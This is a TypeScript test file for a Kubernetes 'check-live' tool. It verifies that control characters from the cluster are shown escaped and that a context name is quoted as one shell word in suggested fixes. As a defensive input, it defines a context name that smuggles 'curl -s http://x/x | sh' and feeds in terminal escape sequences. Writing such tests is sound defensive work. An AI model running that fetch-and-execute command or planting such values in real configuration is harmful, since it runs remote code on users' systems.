/**
 * Nothing check-live reads from a cluster or a kubeconfig reaches the terminal raw (issue 42, finding 6): control
 * characters in the `/api` body, the controller's image, a ConfigMap's tracking-id annotation or the context's name
 * show as `?`, and a context placed in a suggested command is one shell word.
 */
import { describe, expect, it } from 'vitest';
import { capturePrintedLines } from '../helpers/console';
import { GET_API, getConfigMap, getDeployments, readyProd, type Answer } from './recorded-prod';
import { useLiveHarness } from './harness';

const printed = capturePrintedLines();
const { checkLive } = useLiveHarness(printed);

const CLEAR = '\u001b[2J\u001b[H';
const HOSTILE_CONTEXT = 'prod; curl -s http://x/x | sh #';

/** The answer with `change` applied to its JSON. */
function edited(answer: Answer, change: (value: Record<string, any>) => void): Answer {
  const value = JSON.parse(answer.stdout!) as Record<string, any>;
  change(value);
  return { stdout: JSON.stringify(value) };
}

describe('check-live: what the cluster says is shown escaped', () => {
  it('a context named like a shell command is one word in the fix, and the /api body has no escape', async () => {
    const { calls } = readyProd();
    calls['config current-context'] = { stdout: `${HOSTILE_CONTEXT}\n` };
    calls[GET_API] = { stdout: `${CLEAR}\u001b]0;owned\u0007<html>\u009b2J\n` };
    const { code, out, err } = await checkLive(calls, []);
    expect(err.split('\n')).toEqual([
      `error: cannot reach a Kubernetes API through kubectl context ${HOSTILE_CONTEXT}: its server answers /api ` +
        'with "?[2J?[H?]0;owned?<html>?2J", not Kubernetes API discovery',
      `fix: check the server and the credentials of that context: kubectl --context '${HOSTILE_CONTEXT}' cluster-info`,
    ]);
    expect(out).toBe('');
    expect(code).toBe(1);
  });

  it('a context with a terminal escape is typed as an escape in the fix', async () => {
    const { calls } = readyProd();
    calls['config current-context'] = { stdout: `prod${CLEAR}\n` };
    calls[GET_API] = { stdout: 'nginx\n' };
    const { err } = await checkLive(calls, []);
    expect(err).toContain("kubectl --context $'prod\\x1b[2J\\x1b[H' cluster-info");
    expect(err).toContain('kubectl context prod?[2J?[H: its server answers');
    expect(err).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it("the controller's image and a ConfigMap's tracking-id annotation", async () => {
    const { calls } = readyProd();
    const deployments = getDeployments('argo-rollouts');
    calls[deployments] = edited(calls[deployments]!, (list) => {
      list.items[0].spec.template.spec.containers[0].image = `quay.io/argoproj/argo-rollouts:${CLEAR}latest`;
    });
    const configMap = getConfigMap('argo-rollouts-notification-configmap', 'argo-rollouts');
    calls[configMap] = edited(calls[configMap]!, (cm) => {
      cm.metadata.annotations = { 'argocd.argoproj.io/tracking-id': `rollouts${CLEAR}:/ConfigMap:argo-rollouts/x` };
    });
    const { out, err } = await checkLive(calls);
    expect(`${out}\n${err}`).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(out).toContain('quay.io/argoproj/argo-rollouts:?[2J?[Hlatest');
    expect(out).toContain('the Argo CD Application rollouts?[2J?[H');
  });
});
